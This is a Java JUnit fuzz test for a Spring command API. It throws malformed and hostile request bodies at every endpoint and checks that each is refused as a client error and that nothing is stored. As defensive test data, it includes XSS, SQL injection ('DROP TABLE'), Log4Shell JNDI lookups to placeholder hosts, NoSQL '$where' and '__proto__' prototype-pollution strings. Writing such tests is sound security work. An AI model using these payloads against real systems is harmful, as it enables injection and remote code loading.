package org.planledger.command.web;

import org.junit.jupiter.api.Test;
import org.planledger.command.CommandEndpoints;
import org.planledger.command.CommandServiceTest;
import org.planledger.command.Governance;
import org.planledger.command.StoredEvents;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.http.MediaType;
import org.springframework.test.web.servlet.client.RestTestClient;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Function;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A fuzz test: malformed and hostile bodies, generated from a fixed seed, thrown at every command endpoint by a
 * signed-in secretariat, naming a plan, body or meeting that does not exist. Each is malformed (not JSON, not an
 * object, cut short, too deep, too large, or carrying a field no request takes) or, where an endpoint takes an empty
 * body, aimed at nothing, so each must be refused as a client mistake with problem+json, never a 5xx, and the store
 * must not grow.
 */
@CommandServiceTest
class HostileInputTest {

    private static final long SEED = 20261123L;
    private static final int CASES_PER_ENDPOINT = 60;
    private static final String TEMPLATE = """
            {"summary": "Pilot evaluated", "status": "IN_PROGRESS", "evidence": ["https://example.org/e"],
             "reason": "r", "decisionId": "TF-1", "bodyId": "slwg-z", "kind": "NETWORK", "name": "N",
             "meetingId": "m-1", "heldOn": "2024-01-15", "title": "T", "versionId": "2025-01", "actions": []}""";

    @Autowired
    RestTestClient http;
    @Autowired
    StoredEvents stored;
    @Autowired
    Governance governance;
    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    @Test
    void refusesEveryHostileBodyAsAClientMistakeAndAppendsNothing() {
        Random random = new Random(SEED);
        List<String> endpoints = CommandEndpoints.aimedAtNothing(mappings);
        long before = stored.count();
        Map<Integer, Integer> statuses = new TreeMap<>();
        List<String> failures = new ArrayList<>();
        int cases = 0;
        for (String endpoint : endpoints) {
            for (int i = 0; i < CASES_PER_ENDPOINT; i++) {
                Hostile hostile = GENERATORS.get(i % GENERATORS.size()).apply(random);
                var answer = http.post().uri(endpoint).contentType(hostile.contentType()).body(hostile.body())
                        .exchange().returnResult(byte[].class);
                int status = answer.getStatus().value();
                MediaType type = answer.getResponseHeaders().getContentType();
                statuses.merge(status, 1, Integer::sum);
                cases++;
                if (status >= 500 || status < 400 || type == null || !type.isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)) {
                    failures.add(endpoint + " <- " + hostile.kind() + ": " + status + " " + type);
                }
            }
        }
        System.out.printf("fuzz: %d hostile bodies at %d command endpoints (seed %d), answers %s%n", cases,
                endpoints.size(), SEED, statuses);
        assertThat(failures).isEmpty();
        assertThat(stored.count()).as("events appended").isEqualTo(before);
    }

    @Test
    void storesHostileTextVerbatimAndRefusesControlCharacters() {
        String plan = governance.plan("hostile", 1, null);
        String progress = "/api/plans/" + plan + "/versions/2023-11/actions/1/progress";
        String hostile = "<script>alert(\"x\")</script> ' OR 1=1; -- ${jndi:ldap://x} \t tab\r\nline \u202Eevil 🚀 Ω";

        http.post().uri(progress).contentType(MediaType.APPLICATION_JSON)
                .body(Map.of("summary", hostile)).exchange().expectStatus().isCreated();
        http.post().uri(progress).contentType(MediaType.APPLICATION_JSON).body("{\"summary\": \"nul\\u0000byte\"}")
                .exchange()
                .expectStatus().isBadRequest()
                .expectBody().jsonPath("$.detail")
                .isEqualTo("summary: contains a control character; only tab, line feed and carriage return are allowed");

        List<StoredEvents.Stored> events = stored.under(plan + "/2023-11/1");
        assertThat(events).extracting(StoredEvents.Stored::type).containsExactly("ActionPublished", "ProgressRecorded");
        assertThat(events.get(1).payload()).containsEntry("summary", hostile);
    }

    private record Hostile(String kind, MediaType contentType, byte[] body) {
        static Hostile json(String kind, String body) {
            return new Hostile(kind, MediaType.APPLICATION_JSON, body.getBytes(StandardCharsets.UTF_8));
        }
    }

    private static final List<Function<Random, Hostile>> GENERATORS = List.of(
            random -> {
                byte[] bytes = new byte[1 + random.nextInt(200)];
                random.nextBytes(bytes);
                return new Hostile("random bytes", MediaType.APPLICATION_JSON, bytes);
            },
            random -> Hostile.json("cut short", TEMPLATE.substring(0, 1 + random.nextInt(TEMPLATE.length() - 2))),
            random -> Hostile.json("not an object",
                    List.of("[]", "[1, 2]", "\"text\"", "42", "null", "true", "", " ").get(random.nextInt(8))),
            random -> Hostile.json("unknown field", "{\"" + hostileName(random) + "\": " + hostileValue(random, 0) + ", "
                    + TEMPLATE.substring(1)),
            random -> {
                int depth = 2_000 + random.nextInt(20_000);
                return Hostile.json("nested " + depth + " deep", "{\"summary\": " + "[".repeat(depth) + "]".repeat(depth) + "}");
            },
            random -> Hostile.json("too large", "{\"summary\": \"" + "x".repeat(300_000 + random.nextInt(100_000)) + "\"}"),
            random -> new Hostile("not JSON", MediaType.TEXT_PLAIN, "summary=hello".getBytes(StandardCharsets.UTF_8)),
            random -> Hostile.json("control characters", "{\"x\\u0000\": 1, "
                    + TEMPLATE.replace("Pilot evaluated", "Pilot\\u0000evaluated\\u0007").substring(1)),
            random -> Hostile.json("wrong types", "{\"summary\": {\"$where\": \"1==1\"}, \"evidence\": \"not a list\", "
                    + "\"status\": [\"IN_PROGRESS\"], \"effectiveOn\": 20240101, \"" + hostileName(random) + "\": null}"),
            random -> Hostile.json("duplicate keys", "{\"summary\": \"a\", \"summary\": \"b\", \"__proto__\": {\"admin\": true}}"));

    private static String hostileName(Random random) {
        return List.of("actor", "__proto__", "constructor", "$where", "'; DROP TABLE events.domain_event_entry; --",
                "<script>alert(1)</script>", "\\u202Eevil", "a".repeat(10_000), new UUID(random.nextLong(), random.nextLong()).toString())
                .get(random.nextInt(9));
    }

    private static String hostileValue(Random random, int depth) {
        return switch (random.nextInt(depth > 3 ? 4 : 6)) {
            case 0 -> "1e400";
            case 1 -> "-9223372036854775809";
            case 2 -> "\"\\uD800\"";
            case 3 -> "\"${jndi:ldap://example.invalid/a}\"";
            case 4 -> "[" + hostileValue(random, depth + 1) + ", " + hostileValue(random, depth + 1) + "]";
            default -> "{\"" + new UUID(random.nextLong(), random.nextLong()) + "\": " + hostileValue(random, depth + 1) + "}";
        };
    }
}
